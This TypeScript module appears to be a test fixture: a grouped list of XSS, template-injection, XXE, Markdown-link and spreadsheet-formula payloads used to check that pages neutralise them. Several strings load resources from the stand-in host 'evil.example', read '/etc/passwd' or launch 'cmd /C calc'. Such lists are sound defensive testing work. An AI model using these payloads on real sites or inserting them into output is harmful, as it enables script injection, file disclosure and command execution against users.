/**
 * What is tried against the pages: each would run `hacked(n)`, fetch something from `evil.example` or change the page if
 * it were taken for markup, an address, a template, a formula or a script. Our own list, by kind of trick.
 */
export const PAYLOADS: readonly string[] = [
  // Elements and handlers.
  "<script>hacked(1)</script>",
  "<ScRiPt src=//evil.example/2.js></sCrIpT>",
  "<img src=x onerror=hacked(3)>",
  '<img src="https://evil.example/4.png">',
  "<svg onload=hacked(5)>",
  "<svg><script>hacked(6)</script></svg>",
  '<svg><animate onbegin="hacked(7)" attributeName="x" dur="1s"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked(8)>#x"/></svg>',
  '<svg><a xlink:href="javascript:hacked(9)"><text y="20">go</text></a></svg>',
  "<math><mtext><img src=x onerror=hacked(10)></mtext></math>",
  '<math href="javascript:hacked(11)">go</math>',
  '<iframe srcdoc="<script>hacked(12)</script>"></iframe>',
  "<iframe src=https://evil.example/13></iframe>",
  "<object data=https://evil.example/14></object>",
  "<embed src=https://evil.example/15>",
  "<video src=https://evil.example/16 onloadstart=hacked(16)></video>",
  "<audio src=x onerror=hacked(17)></audio>",
  "<details open ontoggle=hacked(18)>",
  "<body onload=hacked(19)>",
  "<input autofocus onfocus=hacked(20)>",
  '<form action="https://evil.example/21"><button>go</button></form>',
  "<base href=https://evil.example/22/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/23">',
  "<link rel=stylesheet href=https://evil.example/24.css>",
  "<style>@import 'https://evil.example/25.css';</style>",
  '<p style="background:url(https://evil.example/26.png)">',
  "<template><script>hacked(27)</script></template>",
  '<a href="javascript:hacked(28)">go</a>',
  '<a href="&#106;avascript&colon;hacked(29)">go</a>',
  '<a href="java\tscript:hacked(30)">go</a>',
  '<a href="vbscript:hacked(31)">go</a>',
  '<a href="data:text/html,<script>hacked(32)</script>">go</a>',
  // Out of attributes, elements, comments and sections.
  '" onmouseover="hacked(33)" x="',
  "' autofocus onfocus='hacked(34)' x='",
  '"><script>hacked(35)</script>',
  "</title><script>hacked(36)</script>",
  "</script><script>hacked(37)</script>",
  "<!--><script>hacked(38)</script>-->",
  "--><script>hacked(39)</script><!--",
  "<![CDATA[<script>hacked(40)</script>]]>",
  "]]><script>hacked(41)</script>",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "</textarea></style></noscript></xmp><script>hacked(42)</script>",
  "&lt;script&gt;hacked(43)&lt;/script&gt;",
  "<!-- </script><script> -->hacked(44)",
  // Markup that changes its meaning when it is parsed a second time.
  '<noscript><p title="</noscript><img src=x onerror=hacked(45)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=hacked(46)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked(47)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=hacked(48) src=1>">',
  "<listing>&lt;img onerror=hacked(49) src=x&gt;</listing>",
  // Templates.
  "{{ 191 * 7 }}{% assign x = 'hacked' %}{{ x | upcase }}",
  "{{ constructor.constructor('hacked(51)')() }}",
  '{{ page.url }}{% include "/etc/passwd" %}{% raw %}{{ content | safe }}',
  "{# gone #}{%- for x in (1..3) -%}{{ x }}{%- endfor -%}{{{ triple }}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what another engine would fill in.
  "<%= 191 * 7 %>${191 * 7}#{191 * 7}@(191*7)[[191*7]]",
  // Addresses as Markdown has them.
  "[go](javascript:hacked(56))",
  "[go](JaVaScRiPt:hacked(57) 'x')",
  "![x](https://evil.example/58.png)",
  "<javascript:hacked(59)>",
  "[go](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
  // Spreadsheets.
  '=HYPERLINK("https://evil.example/61","go")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  // Line separators of scripts, and what a name of an object would do.
  "\u2028hacked(64)\u2029//",
  "__proto__ constructor toString",
];

/** What counts as having been harmed, in a page that was opened: something ran, or was asked for. */
export const EVIL = "evil.example";
